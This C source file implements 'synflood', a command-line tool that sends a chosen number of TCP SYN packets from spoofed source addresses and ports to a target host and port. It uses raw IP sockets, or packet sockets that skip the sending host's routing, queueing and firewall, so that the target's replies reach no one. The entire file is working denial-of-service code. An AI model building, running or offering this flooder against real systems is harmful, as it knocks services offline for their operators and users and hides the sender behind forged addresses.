// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * synflood SOURCE TARGET PORT N [DEVICE LLADDR]: sends N SYNs, from up to 60000
 * different ports of 32 addresses from SOURCE on. Nobody has these addresses,
 * so nobody answers what the target says. As fast as the device takes them;
 * with DEVICE as frames to LLADDR, past this host's own routing and firewall.
 */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <linux/if_packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "rawtcp.h"

struct way {
	int fd;
	const struct sockaddr *to;
	socklen_t len;
};

static void make(struct rawtcp *p, in_addr_t from, unsigned int i)
{
	p->ip.saddr = htonl(ntohl(from) + i % 32);
	p->tcp.source = htons(1024 + i % 60000);
	p->tcp.seq = htonl(i * 2654435761U);
	rawtcp_finish(p);
}

static int open_ip(struct way *w, in_addr_t target)
{
	static struct sockaddr_in to = { .sin_family = AF_INET };

	to.sin_addr.s_addr = target;
	w->to = (const struct sockaddr *)&to;
	w->len = sizeof(to);
	w->fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	return w->fd < 0;
}

static int open_device(struct way *w, const char *device, const char *lladdr)
{
	static struct sockaddr_ll to = {
		.sll_family = AF_PACKET,
		.sll_halen = ETH_ALEN,
	};
	const struct ether_addr *mac = ether_aton(lladdr);
	int on = 1;

	to.sll_protocol = htons(ETH_P_IP);
	to.sll_ifindex = (int)if_nametoindex(device);
	if (!mac || !to.sll_ifindex)
		return 1;
	memcpy(to.sll_addr, mac, ETH_ALEN);
	w->to = (const struct sockaddr *)&to;
	w->len = sizeof(to);
	w->fd = socket(AF_PACKET, SOCK_DGRAM, 0);
	return w->fd < 0 || setsockopt(w->fd, SOL_PACKET, PACKET_QDISC_BYPASS,
				       &on, sizeof(on));
}

static unsigned int flood(const struct way *w, in_addr_t from, in_addr_t target,
			  const char *port, unsigned int n)
{
	unsigned int i, sent = 0;
	struct rawtcp p;

	rawtcp_init(&p, from, target);
	p.tcp.dest = htons(atoi(port));
	p.tcp.syn = 1;
	for (i = 0; i < n; i++) {
		make(&p, from, i);
		sent += sendto(w->fd, &p, sizeof(p), 0, w->to, w->len) ==
			sizeof(p);
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct in_addr from, target;
	unsigned int n, sent;
	struct way w;

	if ((argc != 5 && argc != 7) ||
	    inet_pton(AF_INET, argv[1], &from) != 1 ||
	    inet_pton(AF_INET, argv[2], &target) != 1) {
		fputs("synflood SOURCE TARGET PORT N [DEVICE LLADDR]\n",
		      stderr);
		return 2;
	}
	if (argc == 7 ? open_device(&w, argv[5], argv[6]) :
			open_ip(&w, target.s_addr)) {
		perror("synflood");
		return 1;
	}
	n = (unsigned int)atoi(argv[4]);
	sent = flood(&w, from.s_addr, target.s_addr, argv[3], n);
	printf("%u sent\n", sent);
	return sent != n;
}
